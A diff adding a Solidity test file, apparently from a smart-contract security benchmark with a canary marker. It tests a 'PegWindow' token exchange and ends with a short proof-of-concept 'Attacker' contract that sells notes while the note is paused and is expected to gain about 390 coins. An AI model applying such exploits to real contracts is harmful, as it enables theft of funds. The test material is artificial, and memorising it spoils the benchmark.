@@ -1,0 +1,153 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.19;
+
+import "./PegWindow.sol";
+
+// assay-canary-fb859351-ad1c-4f2a-bf06-84cfa6b06bea
+
+interface Vm {
+    function expectRevert() external;
+    function expectRevert(bytes calldata reason) external;
+    function expectRevert(bytes4 reason) external;
+    function prank(address sender) external;
+    function startPrank(address sender) external;
+    function stopPrank() external;
+}
+
+contract Coin is ERC20("Coin", "COIN") {
+    constructor() {
+        _mint(msg.sender, 10_000e18);
+    }
+}
+
+contract Proof {
+    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    address private constant GUARD = address(0x60A);
+    address private constant TREASURER = address(0x7EA);
+    address private constant ANA = address(0xA9A);
+    address private constant BEN = address(0xBE9);
+
+    Coin private token;
+    Note private note;
+    PegWindow private window;
+    Attacker private mallory;
+
+    function setUp() public {
+        token = new Coin();
+        note = new Note(token, GUARD);
+        window = new PegWindow(note, TREASURER);
+        bytes32 redeemer = note.REDEEMER();
+        bytes32 role = note.WINDOW();
+        vm.startPrank(GUARD);
+        note.grantRole(redeemer, ANA);
+        note.grantRole(role, address(window));
+        vm.stopPrank();
+        token.transfer(ANA, 1_000e18);
+        token.transfer(BEN, 1_000e18);
+        token.transfer(TREASURER, 2_000e18);
+        vm.startPrank(TREASURER);
+        token.approve(address(window), 2_000e18);
+        window.fill(1_000e18);
+        vm.stopPrank();
+        mallory = new Attacker(window);
+        token.approve(address(note), 400e18);
+        note.issue(400e18);
+        note.transfer(address(mallory), 400e18);
+        vm.prank(GUARD);
+        note.pause();
+    }
+
+    function test_Regular() public {
+        vm.startPrank(BEN);
+        token.approve(address(window), 300e18);
+        window.buy(300e18);
+        note.transfer(ANA, 200e18);
+        vm.stopPrank();
+        vm.prank(GUARD);
+        note.unpause();
+        vm.startPrank(ANA);
+        require(window.sell(100e18) == 99.9e18 && token.balanceOf(ANA) == 1_099.9e18, "sold");
+        note.redeem(100e18);
+        vm.stopPrank();
+        require(token.balanceOf(ANA) == 1_199.9e18 && note.balanceOf(BEN) == 100e18, "redeemed");
+        vm.startPrank(TREASURER);
+        window.draw(200e18);
+        window.fill(100e18);
+        vm.stopPrank();
+        require(window.reserve() == 1_100.1e18, "reserve");
+    }
+
+    function test_RefusesAmounts() public {
+        vm.prank(GUARD);
+        note.unpause();
+        vm.startPrank(ANA);
+        vm.expectRevert(Nothing.selector);
+        window.buy(0);
+        vm.expectRevert(Nothing.selector);
+        window.sell(0);
+        vm.expectRevert(NotRedeemable.selector);
+        window.sell(1);
+        token.approve(address(note), 500e18);
+        note.issue(500e18);
+        vm.stopPrank();
+        vm.prank(TREASURER);
+        window.draw(900e18);
+        vm.prank(ANA);
+        vm.expectRevert(abi.encodeWithSelector(OutOfCoins.selector, 100e18));
+        window.sell(200e18);
+        vm.prank(TREASURER);
+        vm.expectRevert(abi.encodeWithSelector(OutOfCoins.selector, 100e18));
+        window.draw(101e18);
+    }
+
+    function test_RefusesStrangers() public {
+        vm.expectRevert(NotTreasurer.selector);
+        window.draw(1);
+        token.approve(address(window), 1);
+        vm.expectRevert(NotTreasurer.selector);
+        window.fill(1);
+        vm.expectRevert();
+        note.mint(address(this), 1);
+        vm.expectRevert();
+        note.burnFrom(ANA, 0);
+        vm.expectRevert(bytes("not redeemable"));
+        note.redeem(1);
+        vm.expectRevert(bytes("zero"));
+        new PegWindow(Note(address(0)), TREASURER);
+        vm.expectRevert(bytes("zero"));
+        new PegWindow(note, address(0));
+    }
+
+    function exploit() public {
+        mallory.run();
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(token.balanceOf(address(mallory)) >= 390e18, "nothing gained");
+    }
+
+    function target() public view returns (address) {
+        return address(window);
+    }
+
+    function attacker() public view returns (address) {
+        return address(mallory);
+    }
+
+    function coin() public view returns (address) {
+        return address(token);
+    }
+}
+
+contract Attacker {
+    PegWindow private window;
+
+    constructor(PegWindow w) {
+        window = w;
+    }
+
+    function run() external {
+        window.sell(400e18);
+    }
+}
